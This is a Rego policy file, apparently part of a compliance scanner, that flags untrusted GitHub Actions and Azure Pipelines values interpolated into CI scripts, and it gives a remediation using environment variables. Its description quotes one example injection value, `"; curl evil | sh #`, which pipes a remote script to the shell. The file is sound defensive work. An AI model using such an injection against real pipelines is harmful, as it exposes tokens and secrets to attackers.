# METADATA
# title: Untrusted input interpolated into a script
# description: |
#   `${{ }}` expressions are pasted into the script text before the shell runs it, so a pull
#   request title, issue body, comment, branch name or commit message containing
#   `"; curl evil | sh #` runs as code with the job's token and secrets. The GitHub contexts
#   an outside contributor controls (`github.event.*.title`/`body`, `head.ref`,
#   `github.head_ref`, commit messages and authors, `workflow_run` head branch and commit) are
#   reported in `run` scripts and in `actions/github-script` scripts; in Azure DevOps, the
#   `$(Build.SourceVersionMessage)`, `$(Build.SourceBranchName)`,
#   `$(System.PullRequest.SourceBranch)` and requester macros are. The finding points at the
#   script line. A local composite action or reusable workflow whose script interpolates
#   `${{ inputs.X }}` is as exposed when its caller passes untrusted input as X; that is
#   reported on the caller's `with:` value.
# related_resources:
#   - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
# custom:
#   id: CI-0005
#   severity: high
#   category: supply-chain
#   frameworks: {soc2: ["CC6.8"], iso27001: ["8.28"]}
#   remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}` then `"$TITLE"` in the script) so the shell treats it as data.'
#   inputs: [{kind: github-actions}, {kind: azure-pipelines}]
package comply.pipelines.script_injection

import data.comply.lib.pipelines
import data.comply.lib.result

deny contains finding if {
	some i in pipelines.own_steps
	s := input.resource.steps[i]
	some k, e in s.expressions
	pipelines.untrusted_expression(e)
	finding := result.fail(
		sprintf("%s interpolates untrusted %s into its script (line %d)", [pipelines.where(s), e.expr, e.n]),
		["steps", i, "expressions", k],
	)
}

# actions/github-script: the `script` input is JavaScript built the same way.
deny contains finding if {
	some i in pipelines.own_steps
	s := input.resource.steps[i]
	pipelines.action(s) == "actions/github-script"
	script := s["with"].script
	is_string(script)
	some m in regex.find_all_string_submatch_n(`\$\{\{\s*([^}]+?)\s*\}\}`, script, -1)
	regex.match(pipelines.untrusted_github, m[1])
	finding := result.fail(
		sprintf("%s interpolates untrusted %s into its github-script code", [pipelines.where(s), m[1]]),
		["steps", i, "with", "script"],
	)
}

# Local composite actions and reusable workflows: a pulled-in step's script interpolates
# `${{ inputs.X }}` and the caller (the `uses: ./...` step before it in the same job, or the
# job calling the workflow) passes untrusted input as X.
deny contains finding if {
	some i, s in input.resource.steps
	is_string(s.via)
	some e in s.expressions
	e.syntax == "template"
	some m in regex.find_all_string_submatch_n(`^inputs\.([A-Za-z0-9_-]+)$`, trim_space(e.expr), 1)
	some caller in _callers(i)
	value := object.get(caller["with"], m[1], null)
	is_string(value)
	some x in regex.find_all_string_submatch_n(`\$\{\{\s*([^}]+?)\s*\}\}`, value, -1)
	regex.match(pipelines.untrusted_github, x[1])
	finding := result.fail(
		sprintf("%s passes untrusted %s as input %q to %s, whose script interpolates it", [caller.label, x[1], m[1], s.via]),
		array.concat(caller.path, [m[1]]),
	)
}

_callers(i) := array.concat(_step_callers(i), _job_callers(i))

# The step that pulled step i in: the closest `uses:` of s.via before it in the same job.
_step_callers(i) := [c |
	s := input.resource.steps[i]
	positions := [k |
		some k, t in input.resource.steps
		k < i
		t.job == s.job
		t.uses.kind == "local"
		t.uses.path == s.via
	]
	count(positions) > 0
	k := max(positions)
	c := {"with": _object(input.resource.steps[k]["with"]), "path": ["steps", k, "with"], "label": pipelines.where(input.resource.steps[k])}
]

# The job that calls the reusable workflow step i comes from.
_job_callers(i) := [c |
	s := input.resource.steps[i]
	job := input.resource.jobs[s.job]
	job.kind == "call"
	job.uses.path == s.via
	c := {"with": _object(job["with"]), "path": ["jobs", s.job, "with"], "label": sprintf("job %q", [job.id])}
]

_object(x) := x if is_object(x)

_object(x) := {} if not is_object(x)
